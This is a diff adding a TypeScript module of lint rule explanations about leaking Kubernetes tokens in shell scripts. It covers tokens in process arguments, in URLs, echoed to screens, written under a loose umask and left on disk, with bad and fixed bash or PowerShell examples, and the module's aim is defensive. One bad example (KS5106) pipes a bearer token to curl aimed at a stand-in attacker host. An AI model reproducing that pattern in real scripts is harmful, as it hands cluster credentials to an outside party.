@@ -1,0 +1,108 @@
+/** KS51xx: where secrets go. */
+import { bash, type Explanation, powershell, script } from './explanation.js';
+
+const token = 'TOKEN=$(kubectl create token default --context=lab)';
+const header = `printf 'header = "Authorization: Bearer %s"\\n' "$TOKEN" |`;
+const call = '  curl -q --config - --fail --max-time 10 https://lab.example.com:6443/api';
+
+export const secretCodes = {
+  KS5101: {
+    why: 'While the command runs, every user of the machine can read its arguments (`ps`, `/proc/PID/cmdline`); many systems log them.',
+    fix: 'Hand the header over on stdin: `--config -`, or `--header @file` from a private file.',
+    examples: [
+      bash(
+        script(
+          token,
+          'curl -q --fail --max-time 10 --header "Authorization: Bearer $TOKEN" https://lab.example.com:6443/api',
+        ),
+        script(token, header, call),
+      ),
+      powershell(
+        script(
+          '$token = kubectl create token default --context=lab',
+          "if ($LASTEXITCODE -ne 0) { throw 'no token' }",
+          'curl.exe --disable --fail --max-time 10 --header "Authorization: Bearer $token" https://lab.example.com:6443/api',
+        ),
+        script(
+          '$token = kubectl create token default --context=lab',
+          "if ($LASTEXITCODE -ne 0) { throw 'no token' }",
+          "'header = \"Authorization: Bearer ' + $token + '\"' |",
+          '  curl.exe --disable --config - --fail --max-time 10 https://lab.example.com:6443/api',
+        ),
+      ),
+    ],
+  },
+  KS5102: {
+    why: 'Servers and proxies write URLs to their logs; browsers and shells keep them in their history.',
+    fix: 'Send it in the Authorization header.',
+    examples: [
+      bash(
+        script(
+          token,
+          `printf 'url = "https://lab.example.com:6443/api?token=%s"\\n' "$TOKEN" |`,
+          '  curl -q --config - --fail --max-time 10',
+        ),
+        script(token, header, call),
+      ),
+    ],
+  },
+  KS5103: {
+    why: 'It ends up on screens, in terminal scrollback, in CI logs. `curl -v`, `kubectl --v=8` and `set -x` print it too.',
+    fix: 'Print something about it instead: its length, when it expires.',
+    examples: [
+      bash(script(token, 'echo "$TOKEN"'), script(token, 'echo "${#TOKEN} characters"')),
+      powershell(
+        script('$token = kubectl create token default', 'Write-Output $token'),
+        script('$token = kubectl create token default', 'Write-Output "$($token.Length) characters"'),
+      ),
+    ],
+  },
+  KS5104: {
+    why: 'With the usual umask of 022 every user of the machine can read a file that the script makes.',
+    fix: '`umask 077` before the file is made, in a folder of `mktemp -d`.',
+    examples: [
+      bash(
+        script(
+          'umask 022',
+          'WORK=$(mktemp -d)',
+          token,
+          'printf %s "$TOKEN" >"$WORK/token"',
+          'rm -rf -- "$WORK"',
+        ),
+        script(
+          'umask 077',
+          'WORK=$(mktemp -d)',
+          token,
+          'printf %s "$TOKEN" >"$WORK/token"',
+          'rm -rf -- "$WORK"',
+        ),
+      ),
+    ],
+  },
+  KS5105: {
+    why: 'The secret stays on the disk when the script ends, for backups and the next user to find.',
+    fix: 'Remove it in a trap: `trap \'rm -rf -- "$WORK"\' EXIT`.',
+    examples: [
+      bash(
+        script('umask 077', 'WORK=$(mktemp -d)', token, 'printf %s "$TOKEN" >"$WORK/token"'),
+        script(
+          'umask 077',
+          'WORK=$(mktemp -d)',
+          'trap \'rm -rf -- "$WORK"\' EXIT',
+          token,
+          'printf %s "$TOKEN" >"$WORK/token"',
+        ),
+      ),
+    ],
+  },
+  KS5106: {
+    why: 'The host is no server of the kubeconfig. Whoever runs it can use the token.',
+    fix: 'Send it to the server that the kubeconfig names for that cluster.',
+    examples: [
+      bash(
+        script(token, header, '  curl -q --config - --fail --max-time 10 https://attacker.example.net/api'),
+        script(token, header, call),
+      ),
+    ],
+  },
+} as const satisfies Readonly<Record<string, Explanation>>;
